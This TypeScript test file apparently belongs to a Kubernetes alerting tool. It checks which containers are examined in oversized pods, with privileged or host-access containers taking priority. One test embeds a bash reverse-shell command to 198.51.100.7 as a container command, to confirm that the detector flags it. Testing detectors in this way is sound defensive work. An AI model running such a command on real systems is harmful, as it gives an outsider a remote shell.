/** Which containers are looked at where there are too many. */
import assert from 'node:assert/strict';
import { alertOf, type Json, podCreated } from '../alert/creations.ts';

const JUDGED_MAX = 500;
const MANY = 2000;

const objectOf = (spec: Json) => alertOf(podCreated({ spec })).object;
const named = (count: number, prefix: string, more: Json = {}): Json[] =>
  Array.from({ length: count }, (_, i) => ({ name: `${prefix}${String(i)}`, image: 'i', ...more }));
const firstNames = (spec: Json): readonly (string | null)[] =>
  objectOf(spec).containers?.map(({ name }) => name) ?? [];

describe('the containers that are looked at', () => {
  it('are first those with rights over the node, wherever they stand', () => {
    const containers = named(MANY, 'c');
    const mighty: readonly (readonly [name: string, rights: Json])[] = [
      ['port', { ports: [{ containerPort: 1, hostPort: 1 }] }],
      ['mount', { volumeMounts: [{ name: 'host', mountPath: '/h' }] }],
      ['capability', { securityContext: { capabilities: { add: ['SYS_ADMIN'] } } }],
      ['windows', { securityContext: { windowsOptions: { hostProcess: true } } }],
      ['privileged', { securityContext: { privileged: true } }],
    ];
    for (const [i, [name, rights]] of mighty.entries())
      containers.splice(i * 400 + 100, 0, { name, image: 'i', ...rights });
    const names = firstNames({ containers, volumes: [{ name: 'host', hostPath: { path: '/' } }] });
    assert.deepEqual(names.slice(0, 5), ['privileged', 'windows', 'capability', 'mount', 'port']);
  });

  it('are the first and the last of those that are alike', () => {
    const shell = 'bash -i >& /dev/tcp/198.51.100.7/443 0>&1';
    for (const index of [0, JUDGED_MAX / 2 - 1, MANY - JUDGED_MAX / 2 + 1, MANY - 1]) {
      const containers = named(MANY, 'c').with(index, {
        name: 'x',
        image: 'i',
        command: ['sh', '-c', shell],
      });
      const { risk } = alertOf(podCreated({ spec: { containers } }));
      assert.ok(
        risk.signals.some(({ id }) => id === 'reverse-shell'),
        String(index),
      );
    }
  });

  it('are those that stay, however many init containers there are', () => {
    assert.equal(
      firstNames({ initContainers: named(MANY, 'init'), containers: named(1, 'main') })[0],
      'main0',
    );
  });

  it('do not change the number in the alert', () => {
    const { cuts } = alertOf(podCreated({ spec: { containers: named(MANY, 'c') } }));
    assert.equal(cuts.find(({ path }) => path === 'object.containers')?.of, MANY);
  });
});
